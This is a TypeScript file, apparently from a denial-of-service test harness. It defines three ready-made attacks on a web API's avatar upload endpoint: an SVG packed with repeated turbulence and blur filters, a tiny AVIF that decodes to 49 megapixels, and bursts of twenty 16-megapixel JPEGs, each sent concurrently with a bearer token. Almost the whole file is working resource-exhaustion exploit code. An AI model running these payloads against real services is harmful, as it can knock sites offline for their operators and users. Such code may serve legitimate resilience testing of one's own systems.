import sharp from 'sharp';
import { type Attack, countStatuses, type Target } from './attack.ts';

/** Milliseconds after which an answer is no longer waited for. */
const answerTimeout = 90_000;

/** Sends a picture as the attacker's avatar, so many times at once. */
const sendAvatars = async ({ address, bearer, attackerId }: Target, type: string, bytes: Buffer, times: number) => {
  const body = JSON.stringify({ avatar: `data:${type};base64,${bytes.toString('base64')}` });
  return async (): Promise<string> => {
    const send = () =>
      fetch(`${address}/api/v1/users/${attackerId}/`, {
        method: 'PUT',
        headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/json' },
        body,
        signal: AbortSignal.timeout(answerTimeout),
      }).then(
        ({ status }) => status,
        () => 0,
      );
    return countStatuses(await Promise.all(Array.from({ length: times }, send)));
  };
};

const makePlain = (side: number) =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#2f6f8f' } });

/** Five kilobytes of filters, which a drawing library works on for minutes. */
export const svgAvatar: Attack = {
  name: '4 avatar SVG di 5 KB con filtri',
  prepare: (target) => {
    const filter = '<feTurbulence numOctaves="9" baseFrequency=".9"/><feGaussianBlur stdDeviation="90"/>'.repeat(52);
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="7000" height="7000"><filter id="f">${filter}</filter><rect width="7000" height="7000" filter="url(#f)"/></svg>`;
    return sendAvatars(target, 'image/svg+xml', Buffer.from(svg), 4);
  },
};

/** A kilobyte that becomes hundreds of megabytes. */
export const avifAvatar: Attack = {
  name: '4 avatar AVIF di 1 KB, 49 megapixel',
  prepare: async (target) =>
    sendAvatars(target, 'image/avif', await makePlain(7000).avif({ effort: 0, quality: 1 }).toBuffer(), 4),
};

/** As large as a picture may be, twenty at once. */
export const jpegAvatars: Attack = {
  name: '20 avatar JPEG di 16 megapixel insieme',
  prepare: async (target) => {
    const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const;
    const picture = sharp({ create: { width: 1000, height: 1000, channels: 3, background: '#888', noise } });
    const bytes = await sharp(await picture.png().toBuffer())
      .resize(4000, 4000)
      .jpeg({ quality: 90 })
      .toBuffer();
    return sendAvatars(target, 'image/jpeg', bytes, 20);
  },
};
